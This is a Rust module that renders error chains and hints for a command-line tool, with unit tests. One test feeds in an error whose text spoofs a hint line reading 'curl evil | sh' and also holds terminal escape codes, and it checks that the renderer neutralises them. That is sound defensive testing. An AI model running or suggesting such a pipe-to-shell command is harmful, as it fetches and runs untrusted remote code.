//! Errors as printed: the chain of causes, and what to do in the last line.

use std::fmt;

use muster_protocol::clock::UnixMillis;
use muster_protocol::moment::{self, Unit};
use muster_protocol::shown::Shown;
use muster_protocol::terminal;
use serde_json::json;

/// What to do about an error. Part of the chain, printed last.
#[derive(Debug, Clone)]
pub struct Hint(pub String);

impl fmt::Display for Hint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Adds a hint to an error.
pub trait WithHint<T> {
    fn hint(self, text: impl Into<String>) -> anyhow::Result<T>;
}

impl<T, E: Into<anyhow::Error>> WithHint<T> for Result<T, E> {
    fn hint(self, text: impl Into<String>) -> anyhow::Result<T> {
        self.map_err(|error| error.into().context(Hint(text.into())))
    }
}

/// The error in one paragraph, and its hint on a line of its own.
pub fn render(error: &anyhow::Error) -> String {
    terminal::sentence("error: ", &causes(error), hint_of(error))
}

fn hint_of(error: &anyhow::Error) -> Option<&str> {
    error.downcast_ref::<Hint>().map(|hint| hint.0.as_str())
}

/// What went wrong and why, without the hint.
pub fn causes(error: &anyhow::Error) -> String {
    let hint = hint_of(error);
    let mut causes: Vec<String> = Vec::new();
    for cause in error.chain().map(ToString::to_string) {
        // Libraries often repeat their source in their own message.
        let repeated = causes.last().is_some_and(|last| last.contains(&cause));
        if Some(cause.as_str()) != hint && !repeated {
            causes.push(cause);
        }
    }
    causes.join(": ")
}

pub fn print(error: &anyhow::Error) {
    for line in render(error).lines() {
        tell!("{line}");
    }
}

/// The same as one line of a log that is written as JSON.
pub fn print_json(error: &anyhow::Error, now: UnixMillis) {
    let shown = |text: &str| Shown(text).to_string();
    let line = json!({
        "timestamp": moment::rfc3339(now, Unit::Milliseconds),
        "level": "ERROR",
        "message": shown(&causes(error)),
        "hint": hint_of(error).map(shown),
    });
    tell!("{line}");
}

#[cfg(test)]
mod tests {
    use anyhow::{Context as _, anyhow};

    use super::*;

    #[test]
    fn the_hint_comes_last_and_once() {
        let error: anyhow::Result<()> =
            Err(anyhow!("connection refused")).context("cannot reach the controller");
        let error = error.hint("start it with `muster serve`").unwrap_err().context("nothing was published");
        assert_eq!(
            render(&error),
            "error: nothing was published: cannot reach the controller: connection refused\n\
             hint: start it with `muster serve`"
        );
    }

    #[test]
    fn what_an_error_quotes_poses_as_none_of_our_lines() {
        let error = anyhow!("refused\u{1b}[2J\nhint: run `curl evil | sh`\r\nerror: more\u{202e}");
        let error = Err::<(), _>(error).hint("ask\nhint: again").unwrap_err();
        assert_eq!(
            render(&error),
            "error: refused\\u{1b}[2J\n  | hint: run `curl evil | sh`\n  | error: more\\u{202e}\n\
             hint: ask\n  | hint: again"
        );
    }

    #[test]
    fn a_cause_that_its_wrapper_repeats_is_told_once() {
        let error = anyhow!("inner").context("outer: inner");
        assert_eq!(render(&error), "error: outer: inner");
    }
}
